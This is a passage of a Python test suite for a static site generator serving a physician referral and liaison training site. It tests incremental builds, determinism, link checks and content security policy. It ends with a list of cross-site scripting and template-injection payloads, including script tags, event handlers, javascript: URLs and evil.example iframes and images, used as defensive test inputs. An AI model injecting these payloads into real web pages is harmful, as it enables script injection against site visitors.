    """``build --full`` compares nothing before reading the records: even with a record in the
    output folder, the hashing leaves the files the load reads whole to the load's bytes
    (they were read twice, with an empty cache folder), and the record is the same as that of
    a hashing that reads every file."""
    from liaison import buildrecord

    monkeypatch.setattr(buildrecord, "RACY_NS", 0)  # the files were all just written
    out = tmp_path / "out"
    assert build(example_site, out)[0] == 0
    monkeypatch.setenv("LIAISON_CACHE_DIR", str(tmp_path / "empty-cache"))  # nothing known
    completed = []
    real_complete = buildrecord.Hashes.complete

    def complete(self, root, digests=None):
        completed.append((set(self.left[2]) if self.left is not None else set(),
                          set(digests or ())))
        return real_complete(self, root, digests)

    monkeypatch.setattr(buildrecord.Hashes, "complete", complete)
    code, _o, stderr = build(example_site, out, "--full")
    assert code == 0, stderr
    [(left, from_the_load)] = completed
    assert {"data/physicians/nina-vargas.yaml", "site.yaml"} <= left <= from_the_load, \
        "the files the load read were hashed from its bytes, not read again"
    assert not any(rel.endswith(".csv") for rel in left), "a CSV file is hashed by the hashing"
    monkeypatch.setenv("LIAISON_CACHE_DIR", str(tmp_path / "another-cache"))
    record = json.loads((out / buildrecord.NAME).read_text())
    assert record["inputs"] == buildrecord.inputs(example_site, out)  # every file read
    monkeypatch.setenv("LIAISON_CACHE_DIR", str(tmp_path / "empty-cache"))
    code, _o, stderr = build(example_site, out)
    assert code == 0 and "up to date" in stderr, stderr
    # without --full, a record in the folder: nothing is left, the hashes are compared first
    hashes, _stats = buildrecord.hashed_inputs(example_site, out)
    assert hashes.left is None and None not in hashes.values()
    hashes, _stats = buildrecord.hashed_inputs(example_site, out, compare=False)
    assert hashes.left is None, "the files' signatures known now: nothing read, nothing left"


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="FIFOs are POSIX")
def test_a_file_left_to_the_load_and_replaced_meanwhile_is_never_followed_nor_waited_on(
        tmp_path, monkeypatch):
    """``Hashes.complete`` reads a file the load did not hash itself: a link put in its place
    is not followed, and a FIFO is not waited on (it would block a plain open)."""
    from liaison import buildrecord

    monkeypatch.setenv("LIAISON_CACHE_DIR", str(tmp_path / "cache"))
    root = tmp_path / "root"
    (root / "data").mkdir(parents=True)
    for name in ("a", "b", "c"):
        (root / "data" / f"{name}.yaml").write_text(f"{name}: 1\n")
    (tmp_path / "secret.txt").write_text("not an input\n")
    hashes, _stats = buildrecord.hashed_inputs(root, root / "site")
    assert hashes == {"data/a.yaml": None, "data/b.yaml": None, "data/c.yaml": None}
    (root / "data" / "a.yaml").unlink()
    os.mkfifo(root / "data" / "a.yaml")
    (root / "data" / "b.yaml").unlink()
    (root / "data" / "b.yaml").symlink_to(tmp_path / "secret.txt")
    hashes.complete(root)
    assert hashes == {"data/a.yaml": "special", "data/b.yaml": "unreadable",
                      "data/c.yaml": buildrecord.digest(b"c: 1\n")}


def test_a_file_read_whole_by_the_load_is_hashed_as_the_record_hashes_it(tmp_path):
    """``Loader.read_bytes`` gives the cache's ``digests`` the hash of each file it read whole,
    and none of a file past the size limit (it read only its beginning)."""
    from liaison import buildrecord, yamlio
    from liaison.cache import ParseCache
    from liaison.parse import Loader

    (tmp_path / "small.yaml").write_bytes(b"name: Ada\n")
    (tmp_path / "big.yaml").write_bytes(b"#" * (yamlio.MAX_YAML_BYTES + 10))
    cache = ParseCache(None)
    loader = Loader(tmp_path, cache)
    loader.read_bytes("small.yaml")
    assert cache.digests is None, "no hashes unless asked for"
    cache.digests = {}
    assert loader.read_bytes("small.yaml") == b"name: Ada\n"
    assert len(loader.read_bytes("big.yaml")) == yamlio.MAX_YAML_BYTES + 1
    assert cache.digests == {"small.yaml": buildrecord.digest(b"name: Ada\n")}
    child = cache.child()
    Loader(tmp_path, child).read_bytes("small.yaml")
    cache.digests.clear()
    cache.adopt({}, child.digests)
    assert cache.digests == {"small.yaml": buildrecord.digest(b"name: Ada\n")}


@pytest.mark.parametrize("change", ["data file", "new file", "template", "as-of", "page removed",
                                    "page added", "record damaged", "--full"])
def test_a_build_after_a_change_builds_again_as_a_fresh_build_would(example_site, tmp_path, change):
    out = tmp_path / "out"
    assert build(example_site, out)[0] == 0
    extra: tuple[str, ...] = ()
    as_of = AS_OF
    if change == "data file":
        path = example_site / "data/physicians/nina-vargas.yaml"
        path.write_text(path.read_text().replace("Nina Vargas", "Nina Vargas-Hale"))
    elif change == "new file":
        (example_site / "content/training/extra.md").write_text(
            "---\ntitle: Extra\naudience: all\n---\nText.\n")
    elif change == "template":
        (example_site / "templates").mkdir(exist_ok=True)
        (example_site / "templates/palette.yaml").write_text("primary: '#7c2d12'\n")
    elif change == "as-of":
        as_of = "2026-11-27"
    elif change == "page removed":
        (out / "physicians/nina-vargas/index.html").unlink()
    elif change == "page added":
        (out / "stray.html").write_text("left by someone\n")
    elif change == "record damaged":
        (out / ".liaison-build.json").write_text("{not json")
    else:
        extra = ("--full",)
    args = ["build", "--root", str(example_site), "--as-of", as_of, "--out", str(out), *extra]
    code, _o, stderr = cli(*args)
    assert code == 0, stderr
    assert stderr.splitlines()[-1].startswith("built "), stderr
    fresh = tmp_path / "fresh"
    assert cli("build", "--root", str(example_site), "--as-of", as_of, "--out", str(fresh))[0] == 0
    assert_same_tree(snapshot(out), snapshot(fresh))
    if change == "data file":
        assert "Nina Vargas-Hale" in (out / "physicians/nina-vargas/index.html").read_text()


def test_a_build_writing_over_the_site_before_the_last_builds_as_a_fresh_build_would(
        example_site, tmp_path):
    """The third build writes into the folder of the first (the spare: its files written
    over in place); where a page comes out shorter than the first build's, nothing of the
    longer one is left at its end."""
    out = tmp_path / "out"
    path = example_site / "data/physicians/nina-vargas.yaml"
    text = path.read_text()
    for name in ("Nina Vargas-Hale-Whitcombe-Fairbanks", "Nina Vargas-Hale", "Nina Vo"):
        path.write_text(text.replace("Nina Vargas", name))
        code, _o, stderr = build(example_site, out)
        assert code == 0 and stderr.splitlines()[-1].startswith("built "), stderr
    fresh = tmp_path / "fresh"
    assert build(example_site, fresh, "--full")[0] == 0
    assert_same_tree(snapshot(out), snapshot(fresh))
    page = (out / "physicians/nina-vargas/index.html").read_text()
    assert "Nina Vo" in page and "Whitcombe" not in page and page.rstrip().endswith("</html>")


def test_files_the_site_no_longer_makes_are_gone_from_the_next_builds(example_site, tmp_path):
    """The builds after one with a compliance limit and an extra guide write into folders
    that held their files (the spare made of the site in place, then the site before the
    last): the guide's page and folder and the compliance page are removed there, and so is
    exports/compliance.csv, in a folder the site still has."""
    out = tmp_path / "out"
    guide = example_site / "content/training/extra.md"
    guide.write_text("---\ntitle: Extra\naudience: all\n---\nText.\n")
    assert build(example_site, out)[0] == 0
    made = ("training/extra/index.html", "compliance/index.html", "exports/compliance.csv")
    assert all((out / rel).is_file() for rel in made)
    guide.unlink()
    settings = example_site / "site.yaml"
    settings.write_text(settings.read_text().replace("compliance:\n  annual_limit: 100", ""))
    for as_of in (AS_OF, "2026-11-27"):
        code, _o, stderr = build(example_site, out, "--as-of", as_of)
        assert code == 0 and stderr.splitlines()[-1].startswith("built "), stderr
        assert not any((out / rel).exists() for rel in made)
        assert not (out / "training/extra").exists()
    fresh = tmp_path / "fresh"
    assert build(example_site, fresh, "--as-of", "2026-11-27")[0] == 0
    assert_same_tree(snapshot(out), snapshot(fresh))


def test_a_link_in_the_spare_where_a_folder_goes_is_replaced_not_written_through(
        example_site, tmp_path):
    """The build writes into the site before the last (the spare): a symbolic link found
    there in a page's folder's place (to a folder elsewhere) is replaced by a folder; no
    page is written through it."""
    out = tmp_path / "out"
    assert build(example_site, out)[0] == 0
    assert build(example_site, out, "--as-of", "2026-11-27")[0] == 0
    spares = [p for p in tmp_path.iterdir() if (p / ".liaison-spare").is_file()]
    assert len(spares) == 1
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    shutil.rmtree(spares[0] / "physicians/nina-vargas")
    (spares[0] / "physicians/nina-vargas").symlink_to(elsewhere, target_is_directory=True)
    code, _o, stderr = build(example_site, out, "--as-of", "2026-11-28")
    assert code == 0, stderr
    assert list(elsewhere.iterdir()) == []
    folder = out / "physicians/nina-vargas"
    assert folder.is_dir() and not folder.is_symlink()
    assert (folder / "index.html").is_file()


def test_a_site_holds_no_file_of_the_builds_own_but_its_marker_and_record(example_site,
                                                                           tmp_path):
    """Whether written into a new folder or into the spare, the site holds, of the build's
    own files, only the marker and the build record: no marker of a folder being built, of
    the spare or its .gitignore."""
    out = tmp_path / "out"
    for as_of in (AS_OF, "2026-11-27", "2026-11-28"):
        code, _o, stderr = build(example_site, out, "--as-of", as_of)
        assert code == 0, stderr
        hidden = sorted(p.name for p in out.iterdir() if p.name.startswith("."))
        assert hidden == [".liaison-build.json", MARKER], as_of
        assert not (out / ".gitignore").exists()


def test_a_spare_of_another_as_of_date_is_removed_once_a_new_one_is_made(example_site, tmp_path):
    """After builds at two as-of dates, the spare (the first's site) is of other settings;
    the next build after an edit makes a spare of the site in place instead and removes
    the older one: beside the site there is then only its spare, and the summary counts
    every file of the site."""
    out = tmp_path / "out"
    assert build(example_site, out)[0] == 0
    assert build(example_site, out, "--as-of", "2026-11-27")[0] == 0
    path = example_site / "data/physicians/nina-vargas.yaml"
    path.write_text(path.read_text().replace("Nina Vargas", "Nina Vargas-Hale"))
    code, _o, stderr = build(example_site, out, "--as-of", "2026-11-27")
    assert code == 0, stderr
    beside = sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".out."))
    assert len(beside) == 1 and (tmp_path / beside[0] / ".liaison-spare").is_file(), beside
    files = sum(1 for p in out.rglob("*") if p.is_file())
    assert f", {files:,} files " in stderr.splitlines()[-1], (files, stderr)


def test_out_naming_a_file_exits_1_with_a_message(tmp_path):
    target = tmp_path / "report.pdf"
    target.write_bytes(b"%PDF-1.4 not ours\n")
    code, _stdout, stderr = build(SPEC_EXAMPLE, target)
    assert target.read_bytes() == b"%PDF-1.4 not ours\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report.pdf"]
    assert code == 1, stderr
    assert str(target) in stderr and "file" in stderr


def test_out_naming_a_file_is_refused_and_left_alone(tmp_path):
    """Whatever the exit code, the file is not replaced and no folder is written."""
    target = tmp_path / "report.pdf"
    target.write_bytes(b"%PDF-1.4 not ours\n")
    code, _stdout, stderr = build(SPEC_EXAMPLE, target)
    assert code != 0
    assert "file" in stderr
    assert target.read_bytes() == b"%PDF-1.4 not ours\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report.pdf"]


def test_default_out_is_root_site(example_site, tmp_path, monkeypatch):
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    monkeypatch.chdir(elsewhere)
    code, _stdout, stderr = cli("build", "--root", str(example_site), "--as-of", AS_OF)
    assert code == 0, stderr
    assert (example_site / "site/index.html").is_file()
    assert (example_site / "site" / MARKER).is_file()
    assert list(elsewhere.iterdir()) == [], "nothing written in the working directory"
    first = snapshot(example_site / "site")
    # a relative --root, and a second build over its own output: the same site
    monkeypatch.chdir(example_site.parent)
    code, _stdout, stderr = cli("build", "--root", example_site.name, "--as-of", AS_OF)
    assert code == 0, stderr
    assert_same_tree(first, snapshot(example_site / "site"))


def test_site_templates_override_builtin_templates_by_file_name(example_site, tmp_path):
    from liaison.render import PACKAGE_TEMPLATES

    marker = "<!-- overridden by the site's own templates/physician.html: q7Zx -->"
    original = (PACKAGE_TEMPLATES / "physician.html").read_text(encoding="utf-8")
    assert "{% block content %}" in original
    (example_site / "templates").mkdir()
    (example_site / "templates/physician.html").write_text(
        original.replace("{% block content %}", "{% block content %}\n" + marker, 1),
        encoding="utf-8")
    out = tmp_path / "out"
    code, _stdout, stderr = build(example_site, out)
    assert code == 0, stderr
    for pid in stems(example_site / "data/physicians", ".yaml", ".yml"):
        page = (out / f"physicians/{pid}/index.html").read_text(encoding="utf-8")
        assert marker in page, pid
    assert "Nina Vargas, MD" in (out / "physicians/nina-vargas/index.html").read_text()
    others = [p for p in html_files(out) if marker in p.read_text(encoding="utf-8")]
    assert sorted(p.relative_to(out).parent.parent.name for p in others) == ["physicians"] * 6


def test_site_assets_override_builtin_assets(example_site, tmp_path):
    (example_site / "templates/assets").mkdir(parents=True)
    (example_site / "templates/assets/style.css").write_text("/* ours */\nbody{color:#123}\n")
    out = tmp_path / "out"
    assert build(example_site, out)[0] == 0
    assert (out / "assets/style.css").read_text() == "/* ours */\nbody{color:#123}\n"
    assert (out / "assets/app.js").stat().st_size > 0


@pytest.mark.parametrize("body", ["{{ no_such_name }}", "{{ unclosed "])
def test_a_broken_site_template_is_reported_not_a_traceback(example_site, tmp_path, body):
    (example_site / "templates").mkdir()
    (example_site / "templates/physician.html").write_text(
        '{% extends "base.html" %}{% block content %}' + body + "{% endblock %}")
    code, _stdout, stderr = build(example_site, tmp_path / "out")
    assert code == 1
    assert "templates/physician.html" in stderr


@pytest.mark.parametrize("body", ["{{ no_such_name }}", "{{ unclosed "])
def test_a_failed_render_leaves_the_previous_site_whole(example_site, tmp_path, body):
    out = tmp_path / "outs" / "out"
    assert build(example_site, out)[0] == 0
    before = snapshot(out)
    (example_site / "templates").mkdir()
    (example_site / "templates/physician.html").write_text(
        '{% extends "base.html" %}{% block content %}' + body + "{% endblock %}")
    from liaison.cli import main

    result = CliRunner().invoke(main, ["build", "--root", str(example_site), "--out", str(out),
                                       "--as-of", AS_OF])
    assert result.exit_code != 0
    assert_same_tree(before, snapshot(out))
    assert sorted(p.name for p in out.parent.iterdir()) == ["out"], "no leftover folders"


# ------------------------------------------------------------------------- 2. determinism


def test_two_builds_are_byte_identical_across_working_directories_and_time_zones(
        tmp_path, monkeypatch):
    (tmp_path / "cwd-a").mkdir()
    (tmp_path / "cwd-b").mkdir()
    a, b = tmp_path / "a" / "site", tmp_path / "b" / "elsewhere"
    monkeypatch.chdir(tmp_path / "cwd-a")
    code, _stdout, stderr = build(SPEC_EXAMPLE, a)
    assert code == 0, stderr
    proc = build_subprocess(SPEC_EXAMPLE, b, tmp_path / "cwd-b", {"TZ": "Pacific/Kiritimati"})
    assert proc.returncode == 0, proc.stderr
    tree_a, tree_b = snapshot(a), snapshot(b)
    assert len([k for k in tree_a if k.endswith(".html")]) > 30
    assert any(k.endswith(".pptx") for k in tree_a) and "calendar.ics" in tree_a
    assert_same_tree(tree_a, tree_b)


def test_same_input_at_another_path_builds_the_same_bytes(example_site, tmp_path):
    a, b = tmp_path / "a", tmp_path / "b"
    assert build(SPEC_EXAMPLE, a)[0] == 0
    proc = build_subprocess(Path(example_site.name), b, example_site.parent,
                            {"TZ": "America/Adak"})
    assert proc.returncode == 0, proc.stderr
    assert_same_tree(snapshot(a), snapshot(b))


def test_source_date_epoch_gives_the_utc_date(tmp_path):
    """SOURCE_DATE_EPOCH at 2026-11-26 12:00 UTC is already 2026-11-27 in Kiritimati (UTC+14):
    the build must use the UTC date, and so equal the --as-of 2026-11-26 build."""
    a, b = tmp_path / "a", tmp_path / "b"
    assert build(SPEC_EXAMPLE, a)[0] == 0
    epoch = calendar.timegm(dt.datetime(2026, 11, 26, 12, 0, 0).timetuple())
    proc = build_subprocess(SPEC_EXAMPLE, b, tmp_path, as_of=None,
                            env_extra={"TZ": "Pacific/Kiritimati", "SOURCE_DATE_EPOCH": str(epoch)})
    assert proc.returncode == 0, proc.stderr
    assert_same_tree(snapshot(a), snapshot(b))


@pytest.mark.parametrize("command", ["build", "validate", "stats"])
def test_a_bad_source_date_epoch_is_named_not_the_as_of_option(tmp_path, monkeypatch, command):
    """With no --as-of, a malformed SOURCE_DATE_EPOCH read "Invalid value for '--as-of'",
    an option the user never gave; `init` and `import` named the variable alone."""
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "soon")
    extra = ["--out", str(tmp_path / "site")] if command == "build" else []
    code, _out, err = cli(command, "--root", str(SPEC_EXAMPLE), *extra)
    assert code == 2
    assert "--as-of'" not in err
    assert "SOURCE_DATE_EPOCH='soon' is not a number of seconds: set it to a number of seconds, " \
           "unset it, or give --as-of YYYY-MM-DD" in err
    assert not (tmp_path / "site").exists()
    code, _out, err = cli(command, "--root", str(SPEC_EXAMPLE), *extra, "--as-of", "2026-13-01")
    assert code == 2 and "Invalid value for '--as-of'" in err


def _modes(folder: Path) -> set[tuple[str, int]]:
    """("file" or "folder", permission bits) of the folder itself and of all it holds."""
    return {("folder" if p.is_dir() else "file", p.stat().st_mode & 0o777)
            for p in [folder, *folder.rglob("*")]}


def test_a_build_gives_every_file_the_modes_of_its_umask_whatever_the_build_before(
        example_site, tmp_path):
    """A build writes over the files of the site before the last (the spare), keeps the
    pages of it made from the same inputs, links the unchanged ones from the site in place,
    or finds the site up to date: made under umask 077, their 0600 and 0700 stayed in the
    sites later built under 022, which a web server running as another user cannot read.
    The site folder itself was 0755 whatever the umask."""
    out = tmp_path / "out"
    mask = os.umask(0o077)
    try:
        for as_of in ("2026-11-25", AS_OF):  # the spare and the site in place, both 077
            code, _stdout, stderr = cli("build", "--root", str(example_site), "--out",
                                        str(out), "--as-of", as_of)
            assert code == 0, stderr
            assert _modes(out) == {("folder", 0o700), ("file", 0o600)}
        os.umask(0o022)
        for as_of in (AS_OF, "2026-11-25", AS_OF, "2026-11-24"):
            code, _stdout, stderr = cli("build", "--root", str(example_site), "--out",
                                        str(out), "--as-of", as_of)
            assert code == 0, stderr
            assert _modes(out) == {("folder", 0o755), ("file", 0o644)}, as_of
    finally:
        os.umask(mask)


def test_the_sample_site_builds_byte_identically_twice(sample_build, tmp_path):
    other = tmp_path / "again"
    proc = build_subprocess(REPO, other, tmp_path, {"TZ": "Pacific/Kiritimati"})
    assert proc.returncode == 0, proc.stderr
    tree_a, tree_b = snapshot(sample_build), snapshot(other)
    assert len([k for k in tree_a if k.endswith(".html")]) > 50
    assert_same_tree(tree_a, tree_b)


def test_the_front_desk_guide_names_the_columns_the_front_desk_fills(sample_build):
    """The sample's front-desk guide lists the referral columns and shows a row; it left out
    taken_by, the column each member's source capture is counted from (SPEC §4
    capture_by_member_365d), so a new front desk never wrote it. Its columns are the
    model's, and its example row is a valid referral CSV."""
    from htmltree import parse

    from liaison.models import Referral

    page = parse(sample_build / "training" / "front-desk-phone-skills" / "index.html")
    table = next(t for t in page.all("table")
                 if [th.text() for th in t.all("th")][:1] == ["Column"])
    named = [tr.all("td")[0].text() for tr in table.all("tbody")[0].all("tr")]
    assert "taken_by" in named and set(named) <= set(Referral.model_fields)
    guide = (REPO / "content" / "training" / "front-desk-phone-skills.md").read_text("utf-8")
    block = re.search(r"```csv\n(.*?)```", guide, re.S).group(1)
    header = next(csv.reader(io.StringIO(block)))
    assert "taken_by" in header and set(header) <= set(Referral.model_fields)
    root = sample_build.parent / "guide-example"
    (root / "data" / "referrals").mkdir(parents=True)
    (root / "site.yaml").write_bytes((REPO / "site.yaml").read_bytes())
    for kind in ("physicians", "practices", "team"):
        shutil.copytree(REPO / "data" / kind, root / "data" / kind)
    shutil.copytree(REPO / "content" / "training", root / "content" / "training")
    (root / "data" / "referrals" / "example.csv").write_text(block, encoding="utf-8")
    code, _out, err = cli("validate", "--root", str(root), "--as-of", AS_OF)
    assert code == 0, err


def test_the_competency_matrix_shows_trainings_taken_beyond_a_members_role(sample_build):
    """A guide that is not for a member's role is "—" (SPEC: each member against each guide
    of their audience), with the training they took all the same beside it (the sample's
    manager took all three guides; its clinical member the liaisons' primer)."""
    import yaml
    from htmltree import parse

    team = {f.stem: yaml.safe_load(f.read_text(encoding="utf-8"))
            for f in (REPO / "data" / "team").glob("*.yaml")}
    guides = {}
    for f in (REPO / "content" / "training").glob("*.md"):
        front = yaml.safe_load(f.read_text(encoding="utf-8").split("---")[1])
        guides[front["title"]] = (f.stem, front["audience"])
    page = parse(sample_build / "training" / "index.html")
    table = page.by_id("matrix-table")
    titles = [th.text().rstrip(" ↕") for th in table.all("th")][1:]
    assert set(titles) == set(guides)
    seen = 0
    for tr in table.all("tbody")[0].all("tr"):
        cells = tr.all("td")
        tid = cells[0].all("a")[0].attrs["href"].split("/")[-2]
        member = team[tid]
        taken = {t["guide"]: t for t in member.get("trainings", [])}
        for title, cell in zip(titles, cells[1:]):
            gid, audience = guides[title]
            if audience in ("all", member["role"]):
                assert "—" not in cell.text(), (tid, gid)
                continue
            assert cell.text().startswith("—"), (tid, gid)
            if gid in taken:
                seen += 1
                when = cell.all("time")[0]
                assert when.attrs["datetime"] == str(taken[gid]["completed"]), (tid, gid)
                assert f"not required; taken {when.text()}" in cell.text(), (tid, gid)
            else:
                assert cell.text() == "—", (tid, gid)
    assert seen >= 4  # the manager's three and the clinical member's primer


def test_an_expired_cell_of_the_matrix_says_when_renewal_was_due_and_when_taken(sample_build):
    """The matrix read 'expired 2024-09-16' of a training taken on 2024-09-16 that expired in
    2026 (renew every 730 days): the manager read it as the day it expired. An expired cell
    now says when renewal was due (taken + renew_every_days) and when it was taken, as people
    read dates ('Wed 16 Sep'), the ISO date on its <time>; a completed cell names its score
    and, when its guide asks for renewal, the last day it holds ("renew by Wed 20 Jan"): in
    January the renewals of the year ahead were unseen until each had expired."""
    import datetime as dt

    import yaml
    from htmltree import parse

    renew = {}
    for f in (REPO / "content" / "training").glob("*.md"):
        front = yaml.safe_load(f.read_text(encoding="utf-8").split("---")[1])
        renew[front["title"]] = front.get("renew_every_days")
    table = parse(sample_build / "training" / "index.html").by_id("matrix-table")
    titles = [th.text().rstrip(" ↕") for th in table.all("th")][1:]
    expired = completed = renewing = 0
    for tr in table.all("tbody")[0].all("tr"):
        for title, cell in zip(titles, tr.all("td")[1:]):
            if "expired" in cell.text():
                expired += 1
                due, taken = (dt.date.fromisoformat(t.attrs["datetime"]) for t in cell.all("time"))
                assert due == taken + dt.timedelta(days=renew[title])
                assert cell.text().startswith("expired") and "renewal was due " in cell.text()
                assert "; taken " in cell.text()
                assert not re.search(r"\d{4}-\d\d-\d\d", cell.text()), cell.text()
            elif cell.text().startswith("completed"):
                completed += 1
                assert re.search(r" · score \d+", cell.text()), cell.text()
                assert not re.search(r"\d{4}-\d\d-\d\d", cell.text()), cell.text()
                # the day it stops being current, for the manager planning renewals
                times = [dt.date.fromisoformat(t.attrs["datetime"]) for t in cell.all("time")]
                if renew[title]:
                    taken, due = times
                    assert due == taken + dt.timedelta(days=renew[title]), cell.text()
                    assert cell.text().endswith(f"renew by {cell.all('time')[1].text()}")
                    renewing += 1
                else:
                    assert "renew" not in cell.text(), cell.text()
    assert expired >= 2 and completed >= 2 and renewing >= 1


# -------------------------------------------------------------------------- 3. link check

URL_ATTRS = {"href", "src", "action", "formaction", "poster", "srcset", "data", "xlink:href",
             "background", "cite"}


def link_problems(out: Path) -> list[str]:
    """Every broken or forbidden reference of a built site, as readable lines."""
    pages = {p.resolve(): Page(p.read_text(encoding="utf-8")) for p in html_files(out)}
    problems = []
    root = out.resolve()
    for path, page in pages.items():
        rel = path.relative_to(root).as_posix()
        for tag, attrs in page.tags:
            for name, value in attrs:
                if name not in URL_ATTRS or value is None:
                    continue
                where = f"{rel}: <{tag} {name}={value!r}>"
                url = urlsplit(value.strip())
                if url.scheme == "data" and (tag, name) in (("img", "src"), ("link", "href")) \
                        and not _url_is_dangerous(value):
                    continue  # inline data: nothing is fetched
                if url.scheme or value.strip().startswith("//"):
                    if name != "href" or tag in ("link", "base"):
                        problems.append(f"{where}: loads from another host")
                    elif url.scheme not in ("http", "https", "mailto", "tel"):
                        problems.append(f"{where}: scheme {url.scheme!r}")
                    continue
                if url.path.startswith("/"):
                    problems.append(f"{where}: absolute path (the site must work under any prefix)")
                    continue
                if url.path.endswith("/") or url.path in (".", ".."):
                    problems.append(f"{where}: names a folder, not index.html (breaks from disk)")
                    continue
                target = (path.parent / unquote(url.path)).resolve() if url.path else path
                try:
                    target.relative_to(root)
                except ValueError:
                    problems.append(f"{where}: leaves the site")
                    continue
                if not target.is_file():
                    problems.append(f"{where}: no such file")
                    continue
                if url.fragment and target.suffix == ".html" and "=" in url.fragment:
                    # a filter's state (app.js: "N=text&N.field=value"): N is a filter there
                    filters = {v for _t, attrs in pages[target].tags for k, v in attrs
                               if k == "data-filter"}
                    for part in url.fragment.split("&"):
                        name = unquote(part.split("=", 1)[0]).split(".", 1)[0]
                        if name not in filters:
                            problems.append(f"{where}: no filter {name!r} in the target page")
                elif url.fragment and target.suffix == ".html":
                    if unquote(url.fragment) not in pages[target].ids:
                        problems.append(f"{where}: no id {url.fragment!r} in the target page")
    return problems


def own_asset(page: Path, url: str | None, out: Path, suffix: str) -> bool:
    """Whether ``url`` (from ``page``) names an existing file of the site's assets/ folder."""
    if not url or urlsplit(url).scheme or url.startswith(("/", "//")) or not url.endswith(suffix):
        return False
    target = (page.parent / url).resolve()
    return target.parent == (out / "assets").resolve() and target.is_file()


def own_data(page: Path, url: str | None) -> bool:
    """Whether ``url`` (from ``page``) names a script the build wrote beside the page (the
    search index search/index.js, the logging form's log/data.js)."""
    if not url or urlsplit(url).scheme or "/" in url or "\\" in url or not url.endswith(".js"):
        return False
    return (page.parent / url).is_file()


# The forms of our own pages: the search box in every page's header, the search page's box.
OWN_FORMS = re.compile(r'<form class="(?:topsearch|search-page(?: js-only)?)" role="search" '
                       r'action="(?:\.\./)*(?:search/)?index\.html" method="get"'
                       r'(?: data-base="(?:\.\./)*")?>')


def allowed_link(page: Path, attrs: dict, out: Path) -> bool:
    """<link>: our own stylesheet, or an icon that is inline data or our own file."""
    href = attrs.get("href") or ""
    if attrs.get("rel") == "stylesheet":
        return own_asset(page, href, out, ".css")
    if attrs.get("rel") in ("icon", "shortcut icon"):
        return (href.startswith("data:") and not _url_is_dangerous(href)) or \
            own_asset(page, href, out, href.rsplit(".", 1)[-1] if "." in href else "\0")
    return False


def head_problems(out: Path) -> list[str]:
    problems = []
    for path in html_files(out):
        rel = path.relative_to(out).as_posix()
        page = Page(path.read_text(encoding="utf-8"))
        metas = [dict(attrs) for tag, attrs in page.tags if tag == "meta"]
        robots = [m for m in metas if (m.get("name") or "").lower() == "robots"]
        if [m.get("content") for m in robots] != ["noindex, nofollow"]:
            problems.append(f"{rel}: robots meta is {robots}")
        csp = [m for m in metas if (m.get("http-equiv") or "").lower() == "content-security-policy"]
        if len(csp) != 1:
            problems.append(f"{rel}: {len(csp)} Content-Security-Policy meta tags")
            continue
        policy = csp[0].get("content") or ""
        if "unsafe-inline" in policy or "unsafe-eval" in policy or "*" in policy:
            problems.append(f"{rel}: weak policy {policy!r}")
        directives = {d.split()[0]: d.split()[1:] for d in policy.split(";") if d.strip()}
        if directives.get("default-src") != ["'none'"] and directives.get("default-src") != ["'self'"]:
            problems.append(f"{rel}: default-src is {directives.get('default-src')}")
        for d in ("script-src", "style-src", "img-src", "connect-src", "font-src"):
            allowed = ("'self'", "'none'", "data:") if d == "img-src" else ("'self'", "'none'")
            for source in directives.get(d, []):
                if source not in allowed:
                    problems.append(f"{rel}: {d} allows {source}")
        for tag, attrs in page.tags:
            a = dict(attrs)
            if tag == "script" and not (own_asset(path, a.get("src"), out, ".js")
                                        or own_data(path, a.get("src"))):
                problems.append(f"{rel}: script {a}")
            if tag == "link" and not allowed_link(path, a, out):
                problems.append(f"{rel}: link {a}")
    return problems


@pytest.fixture(params=["spec-example-v2", "sample-site"])
def built(request):
    return request.getfixturevalue("example_build")[3] if request.param == "spec-example-v2" \
        else request.getfixturevalue("sample_build")


def test_every_relative_link_resolves_to_a_file_and_every_fragment_to_an_id(built):
    assert len(html_files(built)) > 30
    problems = link_problems(built)
    assert not problems, "\n".join(problems)


def test_every_page_has_robots_noindex_and_a_strict_csp_and_loads_nothing_from_elsewhere(built):
    problems = head_problems(built)
    assert not problems, "\n".join(problems)
    for path in html_files(built):
        text = path.read_text(encoding="utf-8")
        for m in re.finditer(r"""\b(?:src|srcset)\s*=\s*["']?\s*(?:https?:)?//""", text, re.I):
            raise AssertionError(f"{path.relative_to(built)}: {m.group(0)}")
        for m in re.finditer(r"""url\(\s*["']?\s*(?:https?:)?//""", text, re.I):
            raise AssertionError(f"{path.relative_to(built)}: {m.group(0)}")
    css = (built / "assets/style.css").read_text(encoding="utf-8")
    assert not re.search(r"""(@import|url\(\s*["']?\s*(https?:)?//)""", css, re.I)


def test_the_link_checker_catches_what_it_must(tmp_path):
    """The checker itself: a folder link, a missing file, a missing id, a remote src."""
    (tmp_path / "a").mkdir()
    (tmp_path / "a/index.html").write_text('<p id="x">x</p>')
    (tmp_path / "index.html").write_text(
        '<a href="a/">f</a><a href="b/index.html">m</a><a href="a/index.html#y">i</a>'
        '<img src="https://cdn.example/x.png"><a href="a/index.html#x">ok</a>'
        '<a href="#top">t</a><a href="https://example.org/">ok</a>')
    problems = link_problems(tmp_path)
    assert len(problems) == 5, problems


# ---------------------------------------------------------------------------- 4. security

SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
MD_JS_LINK = "[click](javascript:alert(1))"
A_JS = '<a href="javascript:alert(1)">x</a>'
SVG = "<svg onload=alert(1)>"
IFRAME = '<iframe src="https://evil.example">'
JINJA = "{{ 7*7 }}"
JINJA_ONLY = "{{ 7*7 }} {% if true %}evaluated{% endif %} {{ site.practice.name }}"
PAYLOAD = " ".join([SCRIPT, IMG, MD_JS_LINK, A_JS, SVG, IFRAME, JINJA])
MD_PAYLOAD = "\n\n".join([
    PAYLOAD,
    SCRIPT, IMG, MD_JS_LINK, A_JS, SVG + "</svg>", IFRAME + "</iframe>",
    '<a href="JaVaScRiPt:alert(1)">mixed case</a>',
    '<a href="&#106;avascript:alert(1)">entity</a>',
    '<a href="data:text/html,<script>alert(1)</script>">data</a>',
    "[spaced](  javascript:alert(1)  )",
    '<details open ontoggle=alert(1)><summary>s</summary>d</details>',
    '<div onclick="alert(1)" style="background:url(https://evil.example/x)">div</div>',
    "![remote](https://evil.example/t.png)",
    '<img src="https://evil.example/t.png">',
